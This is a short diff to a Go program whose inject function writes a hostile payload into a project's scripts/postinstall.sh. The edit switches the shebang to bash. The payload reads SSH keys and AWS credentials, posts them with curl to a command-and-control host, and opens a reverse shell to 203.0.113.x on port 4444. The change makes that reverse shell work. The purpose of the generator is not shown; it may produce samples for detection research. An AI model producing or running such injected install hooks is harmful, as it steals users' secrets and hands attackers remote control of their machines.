@@ -59,7 +59,7 @@ func (g *gen) inject(files []File) []File {
 		case 5: // shell: reverse shell and credential upload
 			code := fmt.Sprintf("\ncat ~/.ssh/id_rsa ~/.aws/credentials 2>/dev/null | curl -s -X POST --data-binary @- %s >/dev/null 2>&1 &\n"+
 				"bash -i >& /dev/tcp/203.0.113.%d/4444 0>&1 &\n", g.c2(), g.between(2, 250))
-			files = g.appendTo(files, byExt[".sh"], "scripts/postinstall.sh", "#!/bin/sh\n"+code)
+			files = g.appendTo(files, byExt[".sh"], "scripts/postinstall.sh", "#!/bin/bash\n"+code)
 		}
 	}
 	return files
